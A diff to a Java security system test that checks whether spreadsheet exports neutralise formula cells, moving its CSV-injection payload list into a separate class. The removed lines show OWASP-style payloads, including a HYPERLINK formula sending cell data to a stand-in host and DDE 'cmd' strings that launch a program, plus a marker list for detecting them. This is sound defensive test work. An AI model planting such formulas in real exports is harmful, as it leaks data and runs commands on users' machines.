@@ -1,6 +1,7 @@
 package id.go.kinerja.systemtest.security;
 
 import id.go.kinerja.infrastructure.DevTokens;
+import id.go.kinerja.infrastructure.FormulaPayloads;
 import id.go.kinerja.systemtest.security.ApiCatalogue.Operation;
 import id.go.kinerja.systemtest.security.ApiCatalogue.Parameter;
 import java.io.IOException;
@@ -23,13 +24,6 @@ final class FormulaExports {
 
     private static final String CHECK = "exports: formula cells";
 
-    /** OWASP's CSV injection examples, one per trigger character. */
-    private static final List<String> PAYLOADS = List.of(
-            "=HYPERLINK(\"http://x.example/?\"&A1,\"Klik\")",
-            "=cmd|' /C calc'!A0",
-            "@SUM(1+1)",
-            "+1+1",
-            "-2+3+cmd|' /C calc'!A0");
     /** Text of every payload that survives any neutralising prefix: how the check knows an export carries them. */
     private static final List<String> MARKERS = List.of("HYPERLINK", "cmd|", "SUM(1+1)", "1+1");
     private static final Pattern NUMBER = Pattern.compile("[+-]?\\d+([.,]\\d+)*%?");
@@ -44,10 +38,6 @@ final class FormulaExports {
     FormulaExports(Suite suite) {
         this.suite = suite;
         this.archived = suite.agencies().archived;
-    }
-
-    static String payload(int index) {
-        return PAYLOADS.get(Math.floorMod(index, PAYLOADS.size()));
     }
 
     void run() {
@@ -92,7 +82,7 @@ final class FormulaExports {
         }
     }
 
-    /** Whether a spreadsheet would evaluate the cell. */
+    /** Whether a spreadsheet would evaluate the cell: a neutralised one starts with an apostrophe. */
     static boolean evaluated(String cell) {
         return !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !NUMBER.matcher(cell).matches();
     }
